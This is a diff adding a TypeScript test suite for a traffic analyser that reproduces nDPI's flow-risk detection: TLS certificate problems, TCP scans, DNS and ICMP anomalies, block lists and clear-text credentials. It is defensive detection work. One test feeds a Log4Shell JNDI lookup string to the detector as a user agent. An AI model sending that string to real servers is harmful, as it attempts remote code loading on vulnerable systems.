@@ -1,0 +1,346 @@
+/**
+ * nDPI's flow risks: the model (ids, names, scores), the rules on crafted flows, and real
+ * captures of the corpus, where nDPI's own verdicts (.out) are the reference.
+ */
+import assert from 'node:assert/strict';
+import path from 'node:path';
+import { test } from 'node:test';
+import { analyze } from '../../lib/analyze.js';
+import { Flow } from '../../lib/flow/flow.js';
+import { mergeAlerts, parseRiskSelection, RiskSelectionError } from '../../lib/risk/alerts.js';
+import { computeRisks } from '../../lib/risk/compute.js';
+import { obsoleteServer } from '../../lib/risk/http.js';
+import { NO_LISTS, parseJa3List, parseRiskyDomains, parseSha1List, riskyDomainMatch } from '../../lib/risk/lists.js';
+import { allRisks, hasRisk, RISK, riskInfo, riskScore, setRisk } from '../../lib/risk/risks.js';
+import { multiOrBroadcast } from '../../lib/risk/traffic.js';
+import { testConfigLists } from '../../scripts/risk-accuracy.js';
+import { NO_CORPUS, corpusFile, SAMPLES_DIR } from '../helpers/corpus.js';
+
+test('the table: 56 risks with the names ndpiReader prints and the scores of their severities', () => {
+  const all = allRisks();
+  assert.equal(all.length, 56);
+  assert.deepEqual(all.map((r) => r.id), Array.from({ length: 56 }, (_, i) => i + 1));
+  const sev: Record<string, number> = { low: 10, medium: 50, high: 100, severe: 150, critical: 200, emergency: 250 };
+  for (const r of all) assert.equal(r.score, sev[r.severity], r.macro);
+  assert.equal(riskInfo(RISK.TLS_SELFSIGNED_CERTIFICATE)?.name, 'Self-signed Cert');
+  assert.equal(riskInfo(RISK.UNIDIRECTIONAL_TRAFFIC)?.name, 'Unidirectional Traffic');
+  assert.equal(riskInfo(RISK.MALICIOUS_FINGERPRINT)?.name, 'Malicious Fingerpint'); // nDPI's spelling
+});
+
+test('risk score: each risk split by its client share, as ndpiReader prints it', () => {
+  const f = new Flow(1);
+  assert.deepEqual(riskScore(f), { total: 0, client: 0, server: 0 });
+  setRisk(f, RISK.CLEAR_TEXT_CREDENTIALS, 'Found FTP username (anonymous)'); // high 100, client 90 %
+  setRisk(f, RISK.UNSAFE_PROTOCOL); // low 10, client 50 %
+  setRisk(f, RISK.UNSAFE_PROTOCOL, 'later info is kept only when there was none');
+  assert.deepEqual(
+    f.risks?.map((r) => r.id),
+    [RISK.UNSAFE_PROTOCOL, RISK.CLEAR_TEXT_CREDENTIALS],
+  );
+  // ftp.pcap.out: [Risk: ** Unsafe Protocol **** Clear-Text Credentials **][Risk Score: 110]
+  assert.deepEqual(riskScore(f), { total: 110, client: 95, server: 15 });
+});
+
+function tcpFlow(cliFlags: number, srvFlags: number, payload = 0): Flow {
+  const f = new Flow(1);
+  f.proto = 6;
+  f.cli[0] = 0x0a000001;
+  f.srv[0] = 0x0a000002;
+  f.cliPort = 40000;
+  f.srvPort = 8080;
+  f.cli2srvPackets = 1;
+  f.cliTcpFlags = cliFlags;
+  f.srv2cliPackets = srvFlags === 0 ? 0 : 1;
+  f.srvTcpFlags = srvFlags;
+  f.cli2srvPayload = payload;
+  return f;
+}
+
+test('traffic: unidirectional unless sent to multicast/broadcast; refused connections and scans', () => {
+  const one = tcpFlow(0x02, 0);
+  computeRisks(one);
+  assert.equal(one.risks?.find((r) => r.id === RISK.UNIDIRECTIONAL_TRAFFIC)?.info, 'No server to client traffic');
+  const bcast = new Flow(2);
+  bcast.proto = 17;
+  bcast.srv[0] = 0xc0a802ff; // 192.168.2.255
+  bcast.cli2srvPackets = 3;
+  computeRisks(bcast);
+  assert.equal(bcast.risks, null);
+  assert.ok(multiOrBroadcast(4, [0xeffffffa]) && multiOrBroadcast(6, [0xff020000]) && !multiOrBroadcast(4, [0x08080808]));
+
+  const refused = tcpFlow(0x02, 0x14); // SYN ← RST/ACK
+  computeRisks(refused);
+  assert.equal(refused.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'Connection refused (server)');
+  const answered = tcpFlow(0x1a, 0x1a, 100);
+  computeRisks(answered);
+  assert.equal(hasRisk(answered, RISK.TCP_ISSUES), false);
+  const nul = tcpFlow(0, 0);
+  computeRisks(nul);
+  assert.equal(nul.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'TCP NULL scan');
+  const xmas = tcpFlow(0x29, 0);
+  computeRisks(xmas);
+  assert.equal(xmas.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'TCP XMAS scan');
+});
+
+test('TLS on crafted metadata: version, cipher, SNI, ALPN, certificate dates and names', () => {
+  const f = tcpFlow(0x1a, 0x1a, 500);
+  f.srvPort = 443;
+  f.l7Master = 91;
+  f.confidence = 'dpi';
+  f.firstSec = Date.UTC(2024, 0, 1) / 1000;
+  f.meta.tls = {
+    version: 0x0302,
+    cipher: 0x0035,
+    ja3c: '0123456789abcdef0123456789abcdef',
+    alpnOffered: ['h2'],
+    subject: 'CN=a.example',
+    issuer: 'CN=a.example',
+    sans: ['a.example'],
+    notBefore: Date.UTC(2023, 0, 1) / 1000,
+    notAfter: Date.UTC(2024, 0, 20) / 1000,
+  };
+  computeRisks(f);
+  const info = (id: number) => f.risks?.find((r) => r.id === id)?.info;
+  assert.equal(info(RISK.TLS_OBSOLETE_VERSION), 'TLSv1.1');
+  assert.equal(info(RISK.TLS_WEAK_CIPHER), 'Cipher TLS_RSA_WITH_AES_256_CBC_SHA');
+  assert.equal(info(RISK.TLS_MISSING_SNI), 'SNI should always be present');
+  assert.equal(info(RISK.TLS_ALPN_SNI_MISMATCH), 'h2');
+  assert.equal(info(RISK.TLS_SELFSIGNED_CERTIFICATE), 'CN=a.example');
+  assert.equal(info(RISK.TLS_CERTIFICATE_ABOUT_TO_EXPIRE), '01/Jan/2023 00:00:00 - 20/Jan/2024 00:00:00');
+  assert.equal(hasRisk(f, RISK.TLS_CERTIFICATE_EXPIRED), false);
+  assert.equal(hasRisk(f, RISK.TLS_NOT_CARRYING_HTTPS), false, 'ALPN offered');
+
+  const g = tcpFlow(0x1a, 0x1a, 500);
+  g.srvPort = 443;
+  g.l7Master = 91;
+  g.firstSec = Date.UTC(2024, 0, 1) / 1000;
+  g.meta.tls = { version: 0x0303, sni: 'www.example.org', ja3c: 'x', sans: ['*.example.com'], notBefore: Date.UTC(2021, 0, 1) / 1000, notAfter: Date.UTC(2023, 0, 1) / 1000 };
+  computeRisks(g);
+  const gi = (id: number) => g.risks?.find((r) => r.id === id)?.info;
+  assert.equal(gi(RISK.TLS_NOT_CARRYING_HTTPS), 'No ALPN');
+  assert.equal(gi(RISK.TLS_CERTIFICATE_MISMATCH), 'www.example.org vs *.example.com');
+  assert.equal(gi(RISK.TLS_CERTIFICATE_EXPIRED), '01/Jan/2021 00:00:00 - 01/Jan/2023 00:00:00');
+  assert.equal(gi(RISK.TLS_CERT_VALIDITY_TOO_LONG), 'TLS Cert lasts 730 days');
+  assert.equal(hasRisk(g, RISK.TLS_MISSING_SNI), false);
+});
+
+test('HTTP servers nDPI calls obsolete: Apache before 2.4, nginx before 1.20', () => {
+  assert.equal(obsoleteServer('Apache/2.2.3 (CentOS)'), 'Obsolete Apache server 2.2.3');
+  assert.equal(obsoleteServer('Apache/2.4.7 (Ubuntu)'), undefined);
+  assert.equal(obsoleteServer('nginx/1.12.2'), 'Obsolete nginx server 1.12.2');
+  assert.equal(obsoleteServer('nginx/1.24.0'), undefined);
+  assert.equal(obsoleteServer('nginx'), undefined);
+});
+
+test('block lists: the files of nDPI test configuration as nDPI reads them', () => {
+  assert.deepEqual([...parseRiskyDomains('# c\n.xyz\nexample.org\n\n')], ['xyz', 'example.org']);
+  const lists = { ...NO_LISTS, riskyDomains: parseRiskyDomains('.xyz\nexample.org') };
+  assert.equal(riskyDomainMatch(lists, 'a.b.XYZ'), 'xyz');
+  assert.equal(riskyDomainMatch(lists, 'example.org.'), 'example.org');
+  assert.equal(riskyDomainMatch(lists, 'notexample.org'), undefined);
+  assert.deepEqual([...parseJa3List('# h\nB386946A5A44D1DDCC843BC75336DFCE,2017-07-14,x,Dridex\nnot,a,hash')], ['b386946a5a44d1ddcc843bc75336dfce']);
+  assert.deepEqual([...parseSha1List('1970-01-01 00:00:00,0DDB34F875632C7E1EC09D75827F82D2336DFEB6, Fake')], ['0ddb34f875632c7e1ec09d75827f82d2336dfeb6']);
+  const cfg = testConfigLists();
+  if (cfg.ja3.size > 0) assert.ok(cfg.ja3.size > 90 && cfg.sha1.size > 4000 && cfg.riskyDomains.has('xyz'));
+});
+
+test('--risks selection: all, none, a list, drops from all; unknown names refused', () => {
+  assert.equal(parseRiskSelection('all').size, 56);
+  assert.equal(parseRiskSelection('none').size, 0);
+  assert.deepEqual([...parseRiskSelection('tls_selfsigned_certificate,ndpi/tls_obsolete_version,8')], [6, 7, 8]);
+  const s = parseRiskSelection('-unidirectional_traffic,-NDPI_UNSAFE_PROTOCOL');
+  assert.equal(s.size, 54);
+  assert.ok(!s.has(46) && !s.has(22) && s.has(6));
+  assert.throws(() => parseRiskSelection('tls_bogus'), RiskSelectionError);
+  assert.throws(() => parseRiskSelection(''), RiskSelectionError);
+});
+
+test('alerts merged by time, each list in its own order', () => {
+  const a = (t: number, c: string) => ({ flowId: 1, score: 1, severity: 'info', message: '', check: c, tsSec: t, tsNsec: 0 });
+  const m = mergeAlerts([a(1, 'r1'), a(5, 'r2')], [a(3, 'l1'), a(2, 'l2'), a(6, 'l3')]);
+  assert.deepEqual(m.map((x) => x.check), ['r1', 'l1', 'l2', 'r2', 'l3']);
+});
+
+test('samples/mixed.pcap: HTTP Basic credentials and a numeric Host become alerts with nDPI scores', async () => {
+  const r = await analyze({ inputs: [path.join(SAMPLES_DIR, 'mixed.pcap')], keepFlows: true });
+  const http = r.flows.find((f) => f.meta.http?.authorization !== undefined);
+  assert.ok(http, 'the sample has an HTTP request with Authorization');
+  assert.ok(hasRisk(http, RISK.CLEAR_TEXT_CREDENTIALS) && hasRisk(http, RISK.NUMERIC_IP_HOST));
+  const checks = http.alerts.map((a) => `${a.check} ${a.score} ${a.severity}`);
+  assert.ok(checks.includes('ndpi/clear_text_credentials 100 error'), checks.join('; '));
+  assert.ok(checks.includes('ndpi/numeric_ip_host 10 notice'), checks.join('; '));
+  assert.equal(http.score, 100);
+  assert.ok(r.alerts.length >= 2);
+  const off = await analyze({ inputs: [path.join(SAMPLES_DIR, 'mixed.pcap')], keepFlows: true, riskAlerts: new Set() });
+  assert.equal(off.alerts.length, 0, 'no risk alerts when none selected');
+  assert.ok(off.flows.some((f) => hasRisk(f, RISK.CLEAR_TEXT_CREDENTIALS)), 'risks are still computed');
+});
+
+/** The corpus flow between the two endpoints (any order), from a run with nDPI's test lists. */
+async function corpusFlows(name: string, lists = testConfigLists()) {
+  const r = await analyze({ inputs: [corpusFile(name)], keepFlows: true, riskLists: lists });
+  return (a: string, b: string): Flow => {
+    const f = r.flows.find((x) => {
+      const c = `${x.cliAddr()}:${x.cliPort}`;
+      const s = `${x.srvAddr()}:${x.srvPort}`;
+      return (c === a && s === b) || (c === b && s === a);
+    });
+    assert.ok(f, `${name}: flow ${a} <-> ${b}`);
+    return f;
+  };
+}
+
+const names = (f: Flow) => (f.risks ?? []).map((r) => riskInfo(r.id)?.name).sort();
+
+test('corpus gnutella.pcap: a self-signed, expired, 16-year certificate and a refused connection, as nDPI lists them', { skip: NO_CORPUS }, async () => {
+  const flow = await corpusFlows('gnutella.pcap');
+  // nDPI: [Risk: ** Self-signed Cert **** TLS Cert Expired **** Missing SNI TLS Extn **** TLS (probably) Not Carrying HTTPS **
+  //        **** TLS Cert Validity Too Long ** …] on 10.0.2.15:50314 <-> 80.7.252.192:6888
+  const tls = flow('10.0.2.15:50314', '80.7.252.192:6888');
+  for (const n of ['Self-signed Cert', 'TLS Cert Expired', 'TLS Cert Validity Too Long', 'Missing SNI TLS Extn', 'TLS (probably) Not Carrying HTTPS']) {
+    assert.ok(names(tls).includes(n), `${n} in ${names(tls).join(', ')}`);
+  }
+  assert.equal(tls.risks?.find((r) => r.id === RISK.TLS_CERT_VALIDITY_TOO_LONG)?.info, 'TLS Cert lasts 5870 days');
+  const refused = flow('10.0.2.15:50202', '61.238.173.128:57648');
+  assert.equal(refused.risks?.find((r) => r.id === RISK.TCP_ISSUES)?.info, 'Connection refused (server)');
+});
+
+test('corpus KakaoTalk_chat.pcap: obsolete TLS, weak cipher, and a JA3 of the block list only when the list is loaded', { skip: NO_CORPUS }, async () => {
+  const withList = await corpusFlows('KakaoTalk_chat.pcap');
+  // nDPI: TLSv1 / dff8a0aa1c904aaea76c5bf624e88333 / Cipher TLS_RSA_WITH_AES_128_CBC_SHA
+  const f = withList('10.24.82.188:37821', '210.103.240.15:443');
+  assert.deepEqual(names(f), ['Malicious Fingerpint', 'Obsolete TLS (v1.1 or older)', 'Weak TLS Cipher']);
+  assert.equal(f.risks?.find((r) => r.id === RISK.MALICIOUS_FINGERPRINT)?.info, 'dff8a0aa1c904aaea76c5bf624e88333');
+  const noList = await corpusFlows('KakaoTalk_chat.pcap', NO_LISTS);
+  assert.deepEqual(names(noList('10.24.82.188:37821', '210.103.240.15:443')), ['Obsolete TLS (v1.1 or older)', 'Weak TLS Cipher']);
+});
+
+test('ICMP: entropy of the first message as nDPI reads it; invalid type and bad checksum are malformed', async () => {
+  const { entropy, entropyLabel, icmpFirstPacket } = await import('../../lib/risk/packet.js');
+  assert.equal(entropy(new Uint8Array(64), 0, 64), 0);
+  const all = Uint8Array.from({ length: 256 }, (_, i) => i);
+  assert.equal(entropy(all, 0, 256), 8);
+  assert.equal(entropyLabel(8), 'Encrypted or Random');
+  assert.equal(entropyLabel(5.868), 'Executable');
+  assert.equal(entropyLabel(4.9), undefined);
+  // echo request, id 1 seq 1, 256 distinct bytes, right checksum
+  const msg = new Uint8Array(8 + 256);
+  msg[0] = 8;
+  msg.set(all, 8);
+  let sum = 0;
+  for (let i = 0; i < msg.length; i += 2) sum += (msg[i] << 8) | msg[i + 1];
+  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
+  const ck = ~sum & 0xffff;
+  msg[2] = ck >> 8;
+  msg[3] = ck & 0xff;
+  const f = new Flow(1);
+  f.proto = 1;
+  icmpFirstPacket(f, 8, 0, msg, 8, 256, msg.length);
+  assert.deepEqual(f.risks, [{ id: RISK.SUSPICIOUS_ENTROPY, info: 'Entropy: 8.000 (Encrypted or Random?)' }]);
+  msg[3] ^= 1;
+  const g = new Flow(2);
+  g.proto = 1;
+  icmpFirstPacket(g, 60, 0, msg, 8, 256, msg.length);
+  assert.equal(g.risks?.find((r) => r.id === RISK.MALFORMED_PACKET)?.info, 'Invalid type (60)/code(0)');
+  assert.equal(g.risks?.length, 2);
+});
+
+test('DNS messages: invalid characters, a cut-short question, zero TTL, error code, large response, fragments', async () => {
+  const { dnsMessage } = await import('../../lib/risk/dns-packet.js');
+  const name = (labels: (string | number[])[]) => {
+    const out: number[] = [];
+    for (const l of labels) {
+      const bytes = typeof l === 'string' ? [...Buffer.from(l)] : l;
+      out.push(bytes.length, ...bytes);
+    }
+    out.push(0);
+    return out;
+  };
+  const header = (id: number, flags: number, qd: number, an: number, ns = 0, ar = 0) => [id >> 8, id & 255, flags >> 8, flags & 255, 0, qd, 0, an, 0, ns, 0, ar];
+  const q = [...header(1, 0x0100, 1, 0), ...name(['www', [0x65, 0x01, 0x78], 'com']), 0, 1, 0, 1];
+  const f = new Flow(1);
+  f.proto = 17;
+  const st = { messages: 0, valid: false, done: false };
+  dnsMessage(f, st, false, 40000, 53, Uint8Array.from(q), 0, q.length, false);
+  assert.deepEqual(f.risks, [{ id: RISK.INVALID_CHARACTERS, info: 'Invalid chars detected in domain name' }]);
+  // the response: NXDOMAIN, one A record with TTL 0, padded past 512 bytes, in IP fragments
+  const ans = [0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 10, 0, 0, 1];
+  const r = [...header(1, 0x8183, 1, 1), ...q.slice(12), ...ans];
+  const big = Uint8Array.from([...r, ...new Array(600 - r.length).fill(0)]);
+  dnsMessage(f, st, false, 53, 40000, big, 0, big.length, true);
+  const info = (id: number) => f.risks?.find((x) => x.id === id)?.info;
+  assert.equal(info(RISK.ERROR_CODE_DETECTED), 'DNS Error Code NXDOMAIN');
+  assert.equal(info(RISK.MINOR_ISSUES), 'DNS Record with zero TTL');
+  assert.equal(info(RISK.DNS_LARGE_PACKET), '600 Bytes DNS Packet');
+  assert.ok(hasRisk(f, RISK.DNS_FRAGMENTED));
+  assert.equal(st.done, true, 'a response with records ends the look');
+  // a question cut short is malformed
+  const g = new Flow(2);
+  g.proto = 17;
+  const cut = Uint8Array.from([...header(2, 0x0100, 1, 0), 7, 0x61, 0x62]);
+  dnsMessage(g, { messages: 0, valid: false, done: false }, false, 40001, 53, cut, 0, cut.length, false);
+  assert.equal(g.risks?.find((x) => x.id === RISK.MALFORMED_PACKET)?.info, 'Invalid DNS Query Lenght');
+  // not DNS at all (a first message that is no DNS header): nothing
+  const h = new Flow(3);
+  const junk = Uint8Array.from(new Array(40).fill(0xff));
+  dnsMessage(h, { messages: 0, valid: false, done: false }, false, 40002, 53, junk, 0, junk.length, false);
+  assert.equal(h.risks, null);
+});
+
+test('HTTP agents: missing, without a letter or digit, carrying a JNDI lookup', () => {
+  const mk = (ua: string | undefined) => {
+    const f = tcpFlow(0x1a, 0x1a, 300);
+    f.l7Master = 7;
+    f.meta.http = { method: 'GET', url: '/', host: 'example.org', userAgent: ua };
+    computeRisks(f);
+    return (f.risks ?? []).map((r) => `${r.id}:${r.info}`);
+  };
+  assert.deepEqual(mk(undefined), [`${RISK.HTTP_SUSPICIOUS_USER_AGENT}:Empty or missing User-Agent`]);
+  assert.deepEqual(mk('**'), [`${RISK.HTTP_SUSPICIOUS_USER_AGENT}:Suspicious Agent`]);
+  assert.deepEqual(mk('/3.9.4.0'), []);
+  assert.deepEqual(mk('${jndi:ldap://172.16.238.11:1389/a}'), [`${RISK.POSSIBLE_EXPLOIT}:Suspicious Log4J`]);
+  assert.deepEqual(mk('Mozilla/5.0'), []);
+});
+
+test('corpus ftp.pcap and pop3.pcap: logins in clear, worded as nDPI words them, never the password', { skip: NO_CORPUS }, async () => {
+  for (const [file, want] of [
+    ['ftp.pcap', 'Found FTP username (anonymous)'],
+    ['pop3.pcap', 'Found username (cicciopernacchio@mail.com)'],
+  ]) {
+    const r = await analyze({ inputs: [corpusFile(file)], keepFlows: true });
+    const infos = r.flows.flatMap((f) => (f.risks ?? []).filter((x) => x.id === RISK.CLEAR_TEXT_CREDENTIALS).map((x) => x.info));
+    assert.ok(infos.includes(want), `${file}: ${infos.join('; ')}`);
+    const pw = r.flows.map((f) => f.meta.other?.['ftp.password'] ?? f.meta.other?.['pop3.password']).find((p) => p !== undefined && p !== '');
+    if (pw !== undefined) assert.ok(!infos.some((i) => i?.includes(String(pw))), 'the password is not in the risk');
+  }
+});
+
+test('corpus rsh.pcap: the rsh account and command in clear are Clear-Text Credentials, as nDPI words them', { skip: NO_CORPUS }, async () => {
+  const r = await analyze({ inputs: [corpusFile('rsh.pcap')], keepFlows: true });
+  const infos = r.flows.flatMap((f) => (f.risks ?? []).filter((x) => x.id === RISK.CLEAR_TEXT_CREDENTIALS).map((x) => x.info)).sort();
+  // rsh.pcap.out: [Risk Info: User 'root' executing 'mkdir testdir'], [… 'someuser' executing 'some random command']
+  assert.deepEqual(infos, ["User 'root' executing 'mkdir testdir'", "User 'someuser' executing 'some random command'"]);
+});
+
+test('uncommon ALPN: an application tag is flagged, HTTP, SPDY and QUIC drafts are not', () => {
+  const alpn = (offered: string[]) => {
+    const f = tcpFlow(0x1a, 0x1a, 300);
+    f.l7Master = 91;
+    f.meta.tls = { version: 0x0303, sni: 'a.example', ja3c: 'x', alpnOffered: offered };
+    computeRisks(f);
+    return f.risks?.find((r) => r.id === RISK.TLS_UNCOMMON_ALPN)?.info;
+  };
+  assert.equal(alpn(['anydesk/6.2.0/linux']), 'anydesk/6.2.0/linux');
+  assert.equal(alpn(['h2', 'http/1.1', 'spdy/3.1', 'h3-fb-05', 'hq-interop', 'h2-16']), undefined);
+});
+
+test('IDN: a host with a punycode label', () => {
+  const f = new Flow(1);
+  f.host = 'www.xn--mnich-kva.com';
+  computeRisks(f);
+  assert.equal(f.risks?.find((r) => r.id === RISK.PUNYCODE_IDN)?.info, 'www.xn--mnich-kva.com');
+  const g = new Flow(2);
+  g.host = 'www.example-xn--.com';
+  computeRisks(g);
+  assert.equal(hasRisk(g, RISK.PUNYCODE_IDN), false);
+});
